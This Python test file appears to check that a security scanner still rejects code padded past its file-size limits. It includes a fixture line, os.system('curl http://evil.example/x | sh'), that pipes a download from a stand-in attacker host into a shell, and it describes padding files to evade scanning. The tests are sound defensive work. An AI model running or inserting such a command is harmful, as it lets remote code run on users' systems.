"""Padding a Python file past limits.max_file_bytes hides nothing: the limit
finding stays (never accepted) and the file is still analysed, in a limited
worker, so a reject stays a reject."""

from __future__ import annotations

from pathlib import Path

RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"


def _rules(doc: dict) -> set[tuple[str, str]]:
    return {(f["path"], f["rule"]) for f in doc["reports"][0]["findings"]}


def test_a_python_file_padded_past_max_file_bytes_is_still_rejected(scan_json, tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text(RUN + "# padding\n" * 250_000)  # 2.5 MB, over the default 2 MB
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [limit] = [f for f in doc["reports"][0]["findings"] if f["rule"] == "unanalyzable.limit-size"]
    assert "limits.max_file_bytes" in limit["message"] and "limited worker" in limit["message"]
    assert ("train.py", "remote-code.fetch-and-run-command") in _rules(doc)
    assert rc == 1 and doc["reports"][0]["decision"] == "reject"


def test_past_max_total_bytes_a_file_is_not_read_and_the_job_is_never_accepted(scan_json, tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\n")
    (tmp_path / "b.py").write_text(RUN + "# padding\n" * 10)
    policy = tmp_path.parent / "site.yaml"
    policy.write_text("limits:\n  max_total_bytes: 50\n")
    rc, doc = scan_json("--no-cache", "--policy", str(policy), str(tmp_path))
    [limit] = [f for f in doc["reports"][0]["findings"] if f["rule"] == "unanalyzable.limit-size"]
    assert limit["path"] == "b.py" and "limits.max_total_bytes; not analysed" in limit["message"]
    assert rc == 3


def test_a_padded_data_file_is_still_only_listed(scan_json, tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text("x = 1\n")
    (tmp_path / "notes.txt").write_text("a" * 3_000_000)
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [limit] = [f for f in doc["reports"][0]["findings"] if f["rule"] == "unanalyzable.limit-size"]
    assert limit["path"] == "notes.txt" and limit["message"].endswith("not analysed")
    assert rc == 3
